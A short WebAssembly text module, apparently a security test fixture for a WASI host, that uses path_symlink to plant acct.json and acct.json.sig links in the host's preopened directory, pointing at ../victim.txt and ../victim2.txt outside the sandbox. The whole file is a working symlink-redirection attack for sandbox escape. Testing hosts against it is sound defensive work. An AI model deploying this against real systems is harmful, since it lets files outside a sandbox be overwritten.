;; plant.wat — a guest that plants symlinks where the host will write its
;; --account record: acct.json and acct.json.sig in its first preopen
;; (fd 3) point at ../victim.txt and ../victim2.txt, outside the preopen.
;;   plant -> two results: path_symlink's errno for each (0: planted)
(module
  (import "wasi_snapshot_preview1" "path_symlink"
    (func $symlink (param i32 i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 0) "../victim.txt")
  (data (i32.const 32) "acct.json")
  (data (i32.const 64) "acct.json.sig")
  (data (i32.const 96) "../victim2.txt")
  (func (export "plant") (result i32 i32)
    (call $symlink (i32.const 0) (i32.const 13) (i32.const 3)
                   (i32.const 32) (i32.const 9))
    (call $symlink (i32.const 96) (i32.const 14) (i32.const 3)
                   (i32.const 64) (i32.const 13))))
